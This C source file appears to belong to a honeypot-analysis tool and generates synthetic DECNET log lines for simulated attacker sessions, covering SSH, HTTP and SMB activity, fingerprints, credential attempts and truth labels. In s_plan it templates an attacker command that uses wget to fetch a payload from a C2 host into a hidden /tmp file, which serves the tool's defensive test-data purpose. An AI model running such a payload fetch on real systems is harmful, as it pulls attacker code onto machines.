/*  decnet_gen.c - observations written as DECNET log lines (see decnet_gen.h and
    docs/decnet.md §5).

    One plan (s_plan) decides everything an observation's lines carry: its address, each
    session's service, times and rendered texts, the per-observation fingerprints. The
    renderer (decnet_gen_add) turns the plan into lines, the view (decnet_gen_view) into the
    observation the adapter reads back from them, so the two cannot drift apart. Lines are
    kept in one text arena with a (time, sequence) index, sorted when flushed.
*/
#include "decnet_gen.h"

#include "cmdrule.h"
#include "decnet.h"
#include "decnet_line.h"
#include "gen.h"
#include "jsonio.h"
#include "strtab.h"
#include "xalloc.h"

#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <math.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <xxhash.h>

#define S_EXT "[" DECNET_EXT_SD_ID

/*  How a session is rendered. */
typedef enum {
    S_SVC_SSH = 0, /* auth-helper, bash, ssh file_captured, sessrec */
    S_SVC_HTTP,    /* Flask request(s), Caddy http_access */
    S_SVC_SMB,     /* connection, disconnect */
} s_svc_t;

/*  One session as it is rendered. */
typedef struct {
    const obs_session_t *in; /* the generated session (borrowed) */
    size_t index;            /* its position in the observation */
    s_svc_t svc;             /* how it is rendered */
    char *id;                /* session id carried by the extension element, owned */
    char *decky;             /* HOSTNAME (decky name made a token), owned, or NULL */
    int64_t ts;              /* start, microseconds */
    int64_t te;              /* end, microseconds */
    char **commands;         /* rendered commands (the C2's wget first), owned */
    size_t n_commands;       /* number of them */
    char **users;            /* credential users made one line each, owned */
    int port;                /* the attacker's source port */
} s_psess_t;

/*  Everything the lines of one observation carry. */
typedef struct {
    char addr[DECNET_ADDR_MAX]; /* the attacker address */
    int64_t t0;                 /* time of the per-observation sniffer lines */
    const char *d0;             /* their decky (borrowed), or NULL */
    uint64_t h;                 /* the observation's style hash (actor, else address) */
    char syn[5][24];            /* its TCP SYN: initial TTL, window, MSS, scale, options */
    char tcp_syn[128];          /* the tcp_syn fingerprint value */
    char ssh_version[80];       /* the SSH client banner */
    char user_agent[80];        /* the HTTP User-Agent */
    bool any_ssh;               /* some session is rendered as SSH */
    bool any_http;              /* some session is rendered as HTTP */
    s_psess_t *sess;            /* sessions in start order */
    size_t n_sess;              /* number of sessions */
} s_plan_t;

/*  One buffered line. */
typedef struct {
    int64_t t;    /* its time, microseconds */
    uint64_t seq; /* the order it was made in */
    size_t off;   /* offset of its text in the arena */
    size_t len;   /* its length, without newline */
} s_line_t;

/*  One decky of the state file. */
typedef struct {
    char *name;    /* decky name, owned */
    char host[16]; /* cosmetic hostname */
    char ip[16];   /* address */
    uint8_t svc;   /* bit per s_svc_t rendered on it */
} s_decky_t;

struct decnet_gen_t {
    char *text;         /* line texts, back to back */
    size_t text_len;    /* bytes used */
    size_t text_cap;    /* bytes allocated */
    s_line_t *lines;    /* buffered lines */
    size_t n_lines;     /* number of them */
    size_t cap_lines;   /* slots allocated */
    uint64_t seq;       /* lines made so far */
    strtab_t *names;    /* decky names: id = index in deckies */
    s_decky_t *deckies; /* the deckies named so far */
    size_t cap_deckies; /* slots allocated */
};

/*  TCP SYN styles: initial TTL, window scale, options. */
static const char *const s_syn_styles[4][3] = {{"64", "7", "M,S,T,N,W"},
                                               {"128", "8", "M,N,W,N,N,S"},
                                               {"64", "", "M,N,W,S,T"},
                                               {"255", "2", "M"}};
static const char *const s_ssh_versions[] = {"SSH-2.0-libssh_0.9.6", "SSH-2.0-Go",
                                             "SSH-2.0-OpenSSH_8.9p1", "SSH-2.0-paramiko_3.4.0"};
static const char *const s_user_agents[] = {"curl/8.5.0", "python-requests/2.31.0",
                                            "Mozilla/5.0 zgrab/0.x", "Go-http-client/1.1"};

decnet_gen_t *
decnet_gen_new(void)
{
    decnet_gen_t *self = xcalloc(1, sizeof *self);
    self->names = strtab_new();
    return self;
}

void
decnet_gen_destroy(decnet_gen_t **self_p)
{
    decnet_gen_t *self = *self_p;
    if (!self) {
        return;
    }
    for (size_t i = 0; i < strtab_count(self->names); i++) {
        free(self->deckies[i].name);
    }
    free(self->deckies);
    strtab_destroy(&self->names);
    free(self->lines);
    free(self->text);
    free(self);
    *self_p = NULL;
}

/* -------------------------------------------------------------------------------------------
    The plan */

static uint64_t
s_hash(const char *s)
{
    return XXH3_64bits(s, strlen(s));
}

/*  A copy of s on one line: CR and LF become spaces (DECNET writes them raw, which cuts the
    line; docs/decnet.md §5). Owned. */
static char *
s_oneline(const char *s)
{
    char *out = xstrdup(s);
    for (char *p = out; *p; p++) {
        if (*p == '\r' || *p == '\n') {
            *p = ' ';
        }
    }
    return out;
}

/*  A decky name as a HOSTNAME token: blanks and control bytes become '_'; NULL or empty
    stays NULL ("-"). Owned. */
static char *
s_host_token(const char *decky)
{
    if (!decky || !decky[0] || strcmp(decky, "-") == 0) {
        return NULL;
    }
    char *out = xstrdup(decky);
    for (unsigned char *p = (unsigned char *)out; *p; p++) {
        if (*p <= 0x20 || *p == 0x7f) {
            *p = '_';
        }
    }
    return out;
}

/*  The attacker address of obs's copy (see decnet_gen_add). */
static void
s_address(const obs_t *obs, uint64_t copy, char out[DECNET_ADDR_MAX])
{
    struct in_addr v4;
    const char *ip = obs->ip ? obs->ip : "";
    bool is_v4 = inet_pton(AF_INET, ip, &v4) == 1;
    if (copy == 0 && decnet_addr(ip, strlen(ip), out) > 0) {
        return;
    }
    uint8_t a[16] = {0x20, 0x01, 0x0d, 0xb8};
    a[4] = (uint8_t)(copy >> 24);
    a[5] = (uint8_t)(copy >> 16);
    a[6] = (uint8_t)(copy >> 8);
    a[7] = (uint8_t)copy;
    if (is_v4) {
        memcpy(a + 12, &v4, 4);
    } else {
        /* not an IPv4 address (never so in generated corpora): its hash stands in */
        uint64_t h = s_hash(obs->id ? obs->id : ip);
        a[8] = 0xff;
        memcpy(a + 12, &h, 4);
    }
    inet_ntop(AF_INET6, a, out, DECNET_ADDR_MAX);
}

static int
s_psess_cmp(const void *pa, const void *pb)
{
    const s_psess_t *a = pa;
    const s_psess_t *b = pb;
    if (a->ts != b->ts) {
        return a->ts < b->ts ? -1 : 1;
    }
    return a->index < b->index ? -1 : a->index > b->index;
}

static void
s_plan(const obs_t *obs, uint64_t copy, s_plan_t *p)
{
    memset(p, 0, sizeof *p);
    s_address(obs, copy, p->addr);
    /* The sniffer's fingerprints of the address are its own: the generator's records have
       none, and a value two observations shared would link them (they are identity
       evidence, docs/decnet-differences.md), which the records do not. */
    p->h = s_hash(p->addr);
    const char *const *style = s_syn_styles[p->h % 4];
    snprintf(p->syn[0], sizeof p->syn[0], "%s", style[0]);
    snprintf(p->syn[1], sizeof p->syn[1], "%u", 1024 + (unsigned)(p->h >> 8 & 0xffff) % 64000);
    snprintf(p->syn[2], sizeof p->syn[2], "%u", 536 + (unsigned)(p->h >> 24 & 0xffff) % 1000);
    snprintf(p->syn[3], sizeof p->syn[3], "%s", style[1]);
    snprintf(p->syn[4], sizeof p->syn[4], "%s", style[2]);
    snprintf(p->tcp_syn, sizeof p->tcp_syn, "%s:%s:%s:%s:%s", p->syn[0], p->syn[1], p->syn[2],
             p->syn[3], p->syn[4]);
    snprintf(p->ssh_version, sizeof p->ssh_version, "%s %08" PRIx32,
             s_ssh_versions[(p->h >> 40) % 4], (uint32_t)(p->h >> 32));
    snprintf(p->user_agent, sizeof p->user_agent, "%s (%08" PRIx32 ")",
             s_user_agents[(p->h >> 44) % 4], (uint32_t)(p->h >> 32));
    p->n_sess = obs->n_sessions;
    p->sess = xcalloc(p->n_sess + 1, sizeof *p->sess);
    for (size_t i = 0; i < obs->n_sessions; i++) {
        const obs_session_t *in = &obs->sessions[i];
        s_psess_t *s = &p->sess[i];
        s->in = in;
        s->index = i;
        s->id = in->id && in->id[0] ? s_oneline(in->id) : xasprintf("session-%zu", i + 1);
        s->decky = s_host_token(in->decky);
        s->ts = (int64_t)llround(in->start * 1e6);
        s->te = s->ts + (int64_t)llround(in->duration * 1e6);
        uint64_t sh = s_hash(s->id) ^ p->h;
        s->port = 20000 + (int)(sh % 40000);
        bool content = in->n_commands > 0 || in->payload_hash || in->c2;
        s->svc = content || (in->n_creds > 0 && (sh >> 20) % 2 == 0) ? S_SVC_SSH
                 : in->n_creds > 0 || (sh >> 20) % 2 == 0            ? S_SVC_HTTP
                                                                     : S_SVC_SMB;
        p->any_ssh |= s->svc == S_SVC_SSH;
        p->any_http |= s->svc == S_SVC_HTTP;
        size_t n = in->n_commands + (in->c2 ? 1 : 0);
        s->commands = xcalloc(n + 1, sizeof *s->commands);
        if (s->svc == S_SVC_SSH) {
            if (in->c2) {
                char *c2 = s_oneline(in->c2);
                s->commands[s->n_commands++] = xasprintf("wget -q -O /tmp/.c http://%s/i", c2);
                free(c2);
            }
            for (size_t c = 0; c < in->n_commands; c++) {
                s->commands[s->n_commands++] = s_oneline(in->commands[c]);
            }
        }
        s->users = xcalloc(in->n_creds + 1, sizeof *s->users);
        for (size_t c = 0; c < in->n_creds; c++) {
            s->users[c] = s_oneline(in->creds[c].user);
        }
    }
    qsort(p->sess, p->n_sess, sizeof *p->sess, s_psess_cmp);
    p->t0 = p->n_sess > 0 ? p->sess[0].ts : (int64_t)GEN_T0 * 1000000;
    p->d0 = p->n_sess > 0 ? p->sess[0].decky : NULL;
}

static void
s_plan_clear(s_plan_t *p)
{
    for (size_t i = 0; i < p->n_sess; i++) {
        s_psess_t *s = &p->sess[i];
        free(s->id);
        free(s->decky);
        for (size_t c = 0; c < s->n_commands; c++) {
            free(s->commands[c]);
        }
        free(s->commands);
        for (size_t c = 0; c < s->in->n_creds; c++) {
            free(s->users[c]);
        }
        free(s->users);
    }
    free(p->sess);
}

/* -------------------------------------------------------------------------------------------
    The view */

obs_t *
decnet_gen_view(const obs_t *obs, uint64_t copy)
{
    s_plan_t p;
    s_plan(obs, copy, &p);
    obs_t *v = obs_new();
    v->id = xasprintf("decnet:%s", p.addr);
    v->ip = xstrdup(p.addr);
    v->ja3 = obs->ja3 ? xstrdup(obs->ja3) : NULL;
    v->ja4 = obs->ja4 ? xstrdup(obs->ja4) : NULL;
    v->truth_campaign = obs->truth_campaign ? xstrdup(obs->truth_campaign) : NULL;
    v->truth_identity = obs->truth_identity ? xstrdup(obs->truth_identity) : NULL;
    v->truth_actor = obs->truth_actor ? xstrdup(obs->truth_actor) : NULL;
    obs_fp_set(v, decnet_fp_kind_name(DECNET_FP_TCP_SYN), p.tcp_syn);
    if (p.any_ssh) {
        obs_fp_set(v, decnet_fp_kind_name(DECNET_FP_SSH_CLIENT), p.ssh_version);
    }
    if (p.any_http) {
        obs_fp_set(v, decnet_fp_kind_name(DECNET_FP_USER_AGENT), p.user_agent);
    }
    for (size_t i = 0; i < p.n_sess; i++) {
        const s_psess_t *s = &p.sess[i];
        obs_session_t *o = obs_add_session(v);
        o->id = xstrdup(s->id);
        o->decky = s->decky ? xstrdup(s->decky) : NULL;
        o->phase = s->in->phase;
        o->start = (double)s->ts / 1e6;
        o->duration = s->te > s->ts ? (double)(s->te - s->ts) / 1e6 : 0.0;
        o->commands = xcalloc(s->n_commands + 1, sizeof *o->commands);
        for (size_t c = 0; c < s->n_commands; c++) {
            o->commands[o->n_commands++] = xstrdup(s->commands[c]);
            char *host = NULL;
            cmdrule_phase(s->commands[c], &host);
            if (!o->c2 && host) {
                o->c2 = host;
            } else {
                free(host);
            }
        }
        o->creds = xcalloc(s->in->n_creds + 1, sizeof *o->creds);
        for (size_t c = 0; c < s->in->n_creds; c++) {
            o->creds[c].user = xstrdup(s->users[c]);
            o->creds[c].pass = xstrdup(s->in->creds[c].pass);
        }
        o->n_creds = s->in->n_creds;
        if (s->svc == S_SVC_SSH && s->in->payload_hash) {
            o->payload_hash = s_oneline(s->in->payload_hash);
        }
    }
    s_plan_clear(&p);
    return v;
}

/* -------------------------------------------------------------------------------------------
    Rendering */

/*  A line being made. */
typedef struct {
    char *p;    /* text, owned */
    size_t n;   /* bytes used */
    size_t cap; /* bytes allocated */
} s_buf_t;

static void
s_put(s_buf_t *b, const char *s, size_t n)
{
    xgrow(&b->p, &b->cap, b->n + n + 1);
    memcpy(b->p + b->n, s, n);
    b->n += n;
    b->p[b->n] = '\0';
}

static void
s_puts(s_buf_t *b, const char *s)
{
    s_put(b, s, strlen(s));
}

static void s_putf(s_buf_t *b, const char *fmt, ...) __attribute__((format(printf, 2, 3)));

static void
s_putf(s_buf_t *b, const char *fmt, ...)
{
    char tmp[256];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(tmp, sizeof tmp, fmt, ap);
    va_end(ap);
    s_put(b, tmp, n < (int)sizeof tmp ? (size_t)n : sizeof tmp - 1);
}

/*  Appends ` name="value"` with RFC 5424 escaping. */
static void
s_param(s_buf_t *b, const char *name, const char *value)
{
    s_putf(b, " %s=\"", name);
    for (const char *s = value; *s;) {
        size_t k = strcspn(s, "\\\"]");
        s_put(b, s, k);
        s += k;
        if (*s) {
            char esc[2] = {'\\', *s++};
            s_put(b, esc, 2);
        }
    }
    s_put(b, "\"", 1);
}

/*  An RFC 3339 UTC time as DECNET's Python emitters write it (the fraction left out when
    it is 0). */
static void
s_time(int64_t us, char out[48])
{
    int64_t secs = us >= 0 ? us / 1000000 : -((-us + 999999) / 1000000);
    int64_t frac = us - secs * 1000000;
    time_t tt = (time_t)secs;
    struct tm tm;
    gmtime_r(&tt, &tm);
    size_t n = strftime(out, 32, "%Y-%m-%dT%H:%M:%S", &tm);
    if (frac) {
        n += (size_t)snprintf(out + n, 48 - n, ".%06" PRId64, frac);
    }
    snprintf(out + n, 48 - n, "+00:00");
}

/*  Base64 of s. Owned. */
static char *
s_b64(const char *s)
{
    static const char abc[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    size_t n = strlen(s);
    char *out = xmalloc(4 * ((n + 2) / 3) + 1);
    size_t o = 0;
    for (size_t i = 0; i < n; i += 3) {
        uint32_t v = (uint32_t)(unsigned char)s[i] << 16;
        v |= i + 1 < n ? (uint32_t)(unsigned char)s[i + 1] << 8 : 0;
        v |= i + 2 < n ? (uint32_t)(unsigned char)s[i + 2] : 0;
        out[o++] = abc[v >> 18 & 63];
        out[o++] = abc[v >> 12 & 63];
        out[o++] = i + 1 < n ? abc[v >> 6 & 63] : '=';
        out[o++] = i + 2 < n ? abc[v & 63] : '=';
    }
    out[o] = '\0';
    return out;
}

/*  s with every byte outside printable ASCII as '?' (secret_printable). Owned. */
static char *
s_printable(const char *s)
{
    char *out = xstrdup(s);
    for (unsigned char *p = (unsigned char *)out; *p; p++) {
        if (*p < 0x20 || *p > 0x7e) {
            *p = '?';
        }
    }
    return out;
}

/*  The state-file entry of a decky (created on first use). */
static s_decky_t *
s_decky(decnet_gen_t *self, const char *name)
{
    size_t before = strtab_count(self->names);
    uint32_t id = strtab_intern(self->names, name, strlen(name));
    if (strtab_count(self->names) > before) {
        xgrow(&self->deckies, &self->cap_deckies, (size_t)id + 1);
        s_decky_t *d = &self->deckies[id];
        memset(d, 0, sizeof *d);
        d->name = xstrdup(name);
        snprintf(d->host, sizeof d->host, "SRV-%08" PRIX32, (uint32_t)s_hash(name));
        snprintf(d->ip, sizeof d->ip, "10.%u.%u.%u", (unsigned)(id >> 16 & 255),
                 (unsigned)(id >> 8 & 255), (unsigned)(id & 255));
    }
    return &self->deckies[id];
}

/*  Starts a line: `<PRI>1 TIME HOST APP - MSGID`. */
static void
s_head(s_buf_t *b, int pri, int64_t t, const char *host, const char *app, const char *msgid)
{
    char ts[48];
    s_time(t, ts);
    b->n = 0;
    s_putf(b, "<%d>1 %s %s %s - %s", pri, ts, host ? host : "-", app, msgid);
}

/*  Ends the relay element, adds the extension element of session s (and truth, when
    truth is not NULL), and buffers the line at time t. */
static void
s_end(decnet_gen_t *self, s_buf_t *b, int64_t t, const s_psess_t *s, const obs_t *truth)
{
    s_put(b, "]", 1);
    if (s || truth) {
        s_puts(b, S_EXT);
        if (s) {
            s_param(b, "session", s->id);
            s_param(b, "phase", ukc_phase_name(s->in->phase));
        }
        if (truth && truth->truth_campaign) {
            s_param(b, "campaign", truth->truth_campaign);
        }
        if (truth && truth->truth_identity) {
            s_param(b, "identity", truth->truth_identity);
        }
        if (truth && truth->truth_actor) {
            s_param(b, "actor", truth->truth_actor);
        }
        s_put(b, "]", 1);
    }
    xgrow(&self->text, &self->text_cap, self->text_len + b->n + 1);
    memcpy(self->text + self->text_len, b->p, b->n);
    xgrow(&self->lines, &self->cap_lines, self->n_lines + 1);
    self->lines[self->n_lines++] =
        (s_line_t){.t = t, .seq = self->seq++, .off = self->text_len, .len = b->n};
    self->text_len += b->n;
}

/*  The time of item i of n spread over [ts, te]. */
static int64_t
s_at(const s_psess_t *s, size_t i, size_t n)
{
    return n <= 1 ? s->ts : s->ts + (s->te - s->ts) / (int64_t)(n - 1) * (int64_t)i;
}

static void
s_render_ssh(decnet_gen_t *self, s_buf_t *b, const s_plan_t *p, const s_psess_t *s,
             const s_decky_t *d)
{
    const obs_session_t *in = s->in;
    size_t n = in->n_creds + s->n_commands + (in->payload_hash ? 1 : 0) + 1;
    size_t k = 0;
    const char *cosmetic = d ? d->host : NULL;
    for (size_t c = 0; c < in->n_creds; c++) {
        int64_t t = s_at(s, k++, n);
        s_head(b, 134, t, cosmetic, "auth-helper", "auth_attempt");
        s_puts(b, " [" DECNET_SD_ID);
        char *printable = s_printable(in->creds[c].pass);
        char *b64 = s_b64(in->creds[c].pass);
        s_param(b, "username", s->users[c]);
        s_param(b, "principal", s->users[c]);
        s_param(b, "secret_printable", printable);
        s_param(b, "secret_b64", b64);
        s_param(b, "src_ip", p->addr);
        free(printable);
        free(b64);
        s_end(self, b, t, s, NULL);
    }
    for (size_t c = 0; c < s->n_commands; c++) {
        int64_t t = s_at(s, k++, n);
        char ts[48];
        s_time(t, ts);
        /* rsyslog's wrap of logger's line (DECNET-LOGS.md §1.10); the extension element
           follows the inner timeQuality element */
        b->n = 0;
        s_putf(b,
               "<14>1 %s %s 1 - - -  %s %s bash - command [timeQuality tzKnown=\"1\" "
               "isSynced=\"1\"",
               ts, s->decky ? s->decky : "-", ts, cosmetic ? cosmetic : "-");
        s_end(self, b, t, s, NULL);
        /* s_end buffered the line without the CMD body: append it in place */
        s_line_t *l = &self->lines[self->n_lines - 1];
        s_buf_t body = {0};
        s_putf(&body, " CMD uid=0 user=root src=%s pwd=/root cmd=", p->addr);
        s_puts(&body, s->commands[c]);
        xgrow(&self->text, &self->text_cap, self->text_len + body.n + 1);
        memcpy(self->text + self->text_len, body.p, body.n);
        self->text_len += body.n;
        l->len += body.n;
        free(body.p);
    }
    if (in->payload_hash) {
        int64_t t = s_at(s, k++, n);
        char *hash = s_oneline(in->payload_hash);
        char *stored = xasprintf("%.16s.bin", hash);
        char port[16];
        snprintf(port, sizeof port, "%d", s->port);
        s_head(b, 134, t, s->decky, "ssh", "file_captured");
        s_puts(b, " [" DECNET_SD_ID);
        s_param(b, "stored_as", stored);
        s_param(b, "sha256", hash);
        s_param(b, "size", "4096");
        s_param(b, "orig_path", "/tmp/.x");
        s_param(b, "src_ip", p->addr);
        s_param(b, "src_port", port);
        s_param(b, "ssh_user", "root");
        s_param(b, "attribution", "pid-chain");
        s_end(self, b, t, s, NULL);
        free(stored);
        free(hash);
    }
    char dur[40];
    int64_t us = s->te - s->ts;
    snprintf(dur, sizeof dur, "%" PRId64 ".%06" PRId64, us / 1000000, us % 1000000);
    s_head(b, 134, s->te, s->decky, "sessrec", "session_recorded");
    s_puts(b, " [" DECNET_SD_ID);
    s_param(b, "src_ip", p->addr);
    s_param(b, "sid", s->id);
    s_param(b, "service", "ssh");
    s_param(b, "duration_s", dur);
    s_param(b, "bytes", "512");
    s_param(b, "truncated", "False");
    s_end(self, b, s->te, s, NULL);
}

static void
s_render_http(decnet_gen_t *self, s_buf_t *b, const s_plan_t *p, const s_psess_t *s,
              const s_decky_t *d)
{
    const obs_session_t *in = s->in;
    size_t n_req = in->n_creds > 0 ? in->n_creds : 1;
    for (size_t c = 0; c < n_req; c++) {
        int64_t t = s_at(s, c, n_req + 1);
        s_head(b, 134, t, s->decky, "http", "request");
        s_puts(b, " [" DECNET_SD_ID);
        s_param(b, "method", "GET");
        s_param(b, "path", in->n_creds ? "/admin" : "/");
        s_param(b, "remote_addr", p->addr);
        char *headers = NULL;
        size_t hl = 0;
        char *cred = NULL;
        if (in->n_creds) {
            char *pair = xasprintf("%s:%s", s->users[c], in->creds[c].pass);
            cred = s_b64(pair);
            free(pair);
        }
        jsonio_http_headers(d ? d->ip : "-", p->user_agent, cred, &headers, &hl);
        s_param(b, "headers", headers);
        s_param(b, "body", "");
        free(headers);
        free(cred);
        if (in->n_creds) {
            char *printable = s_printable(in->creds[c].pass);
            char *b64 = s_b64(in->creds[c].pass);
            s_param(b, "principal", s->users[c]);
            s_param(b, "secret_kind", "plaintext");
            s_param(b, "secret_printable", printable);
            s_param(b, "secret_b64", b64);
            free(printable);
            free(b64);
        }
        s_end(self, b, t, s, NULL);
    }
    char addr[DECNET_ADDR_MAX + 16];
    snprintf(addr, sizeof addr, strchr(p->addr, ':') ? "[%s]:%d" : "%s:%d", p->addr, s->port);
    s_head(b, 134, s->te, s->decky, "http", "http_access");
    s_puts(b, " [" DECNET_SD_ID);
    s_param(b, "remote_addr", addr);
    s_param(b, "method", "GET");
    s_param(b, "path", in->n_creds ? "/admin" : "/");
    s_param(b, "proto", "HTTP/1.1");
    s_param(b, "status", in->n_creds ? "401" : "200");
    s_param(b, "bytes", "612");
    s_end(self, b, s->te, s, NULL);
}

static void
s_render_smb(decnet_gen_t *self, s_buf_t *b, const s_plan_t *p, const s_psess_t *s)
{
    char port[16];
    snprintf(port, sizeof port, "%d", s->port);
    s_head(b, 134, s->ts, s->decky, "smb", "connection");
    s_puts(b, " [" DECNET_SD_ID);
    s_param(b, "src_ip", p->addr);
    s_param(b, "src_port", port);
    s_end(self, b, s->ts, s, NULL);
    s_head(b, 134, s->te, s->decky, "smb", "disconnect");
    s_puts(b, " [" DECNET_SD_ID);
    s_param(b, "src_ip", p->addr);
    s_param(b, "src_port", port);
    s_end(self, b, s->te, s, NULL);
}

void
decnet_gen_add(decnet_gen_t *self, const obs_t *obs, uint64_t copy)
{
    s_plan_t p;
    s_plan(obs, copy, &p);
    s_buf_t b = {0};
    const s_decky_t *d0 = p.d0 ? s_decky(self, p.d0) : NULL;
    const obs_t *truth =
        obs->truth_campaign || obs->truth_identity || obs->truth_actor ? obs : NULL;
    /* The observation's sniffer lines, with its truth labels. */
    char(*syn)[24] = p.syn;
    char port[16];
    snprintf(port, sizeof port, "%d", 1024 + (int)(p.h % 60000));
    s_head(&b, 134, p.t0, p.d0, "sniffer", "tcp_syn_fingerprint");
    s_puts(&b, " [" DECNET_SD_ID);
    s_param(&b, "src_ip", p.addr);
    s_param(&b, "src_port", port);
    s_param(&b, "dst_ip", d0 ? d0->ip : "");
    s_param(&b, "dst_port", "22");
    s_param(&b, "ttl", "52");
    s_param(&b, "initial_ttl", syn[0]);
    s_param(&b, "hop_distance", "12");
    s_param(&b, "window", syn[1]);
    s_param(&b, "mss", syn[2]);
    s_param(&b, "wscale", syn[3]);
    s_param(&b, "options_sig", syn[4]);
    s_param(&b, "os_guess", "linux");
    s_end(self, &b, p.t0, NULL, truth);
    if (obs->ja3 || obs->ja4) {
        s_head(&b, 134, p.t0, p.d0, "sniffer", "tls_client_hello");
        s_puts(&b, " [" DECNET_SD_ID);
        s_param(&b, "src_ip", p.addr);
        s_param(&b, "src_port", port);
        s_param(&b, "dst_ip", d0 ? d0->ip : "");
        s_param(&b, "dst_port", "443");
        if (obs->ja3) {
            s_param(&b, "ja3", obs->ja3);
        }
        if (obs->ja4) {
            s_param(&b, "ja4", obs->ja4);
        }
        s_param(&b, "tls_version", "TLS 1.3");
        s_param(&b, "sni", "");
        s_param(&b, "alpn", "h2,http/1.1");
        s_end(self, &b, p.t0, NULL, NULL);
    }
    bool banner = false;
    for (size_t i = 0; i < p.n_sess; i++) {
        const s_psess_t *s = &p.sess[i];
        s_decky_t *d = s->decky ? s_decky(self, s->decky) : NULL;
        if (d) {
            d->svc |= (uint8_t)(1u << s->svc);
        }
        if (s->svc == S_SVC_SSH && !banner) {
            banner = true;
            s_head(&b, 134, s->ts, s->decky, "sniffer", "ssh_client_banner");
            s_puts(&b, " [" DECNET_SD_ID);
            s_param(&b, "src_ip", p.addr);
            s_param(&b, "dst_port", "22");
            s_param(&b, "ssh_version", p.ssh_version);
            s_end(self, &b, s->ts, NULL, NULL);
        }
        switch (s->svc) {
        case S_SVC_SSH:
            s_render_ssh(self, &b, &p, s, d);
            break;
        case S_SVC_HTTP:
            s_render_http(self, &b, &p, s, d);
            break;
        case S_SVC_SMB:
            s_render_smb(self, &b, &p, s);
            break;
        }
    }
    free(b.p);
    s_plan_clear(&p);
}

static int
s_line_cmp(const void *pa, const void *pb)
{
    const s_line_t *a = pa;
    const s_line_t *b = pb;
    if (a->t != b->t) {
        return a->t < b->t ? -1 : 1;
    }
    return a->seq < b->seq ? -1 : a->seq > b->seq;
}

int
decnet_gen_flush(decnet_gen_t *self, FILE *out)
{
    qsort(self->lines, self->n_lines, sizeof *self->lines, s_line_cmp);
    int rc = 0;
    for (size_t i = 0; i < self->n_lines && rc == 0; i++) {
        const s_line_t *l = &self->lines[i];
        if (fwrite(self->text + l->off, 1, l->len, out) != l->len || putc('\n', out) == EOF) {
            rc = errno ? -errno : -EIO;
        }
    }
    self->n_lines = 0;
    self->text_len = 0;
    return rc;
}

int
decnet_gen_state(const decnet_gen_t *self, char **out_p, size_t *len_p)
{
    static const char *const names[] = {"ssh", "http", "smb"};
    size_t n = strtab_count(self->names);
    jsonio_decky_t *d = xcalloc(n + 1, sizeof *d);
    for (size_t i = 0; i < n; i++) {
        const s_decky_t *e = &self->deckies[i];
        d[i].name = e->name;
        d[i].hostname = (char *)e->host;
        d[i].ip = (char *)e->ip;
        char svc[32] = "";
        for (int k = 0; k < 3; k++) {
            if (e->svc & (1u << k)) {
                strcat(svc, svc[0] ? "," : "");
                strcat(svc, names[k]);
            }
        }
        d[i].services = xstrdup(svc);
    }
    int rc = jsonio_decnet_state_encode(d, n, out_p, len_p);
    for (size_t i = 0; i < n; i++) {
        free(d[i].services);
    }
    free(d);
    return rc;
}
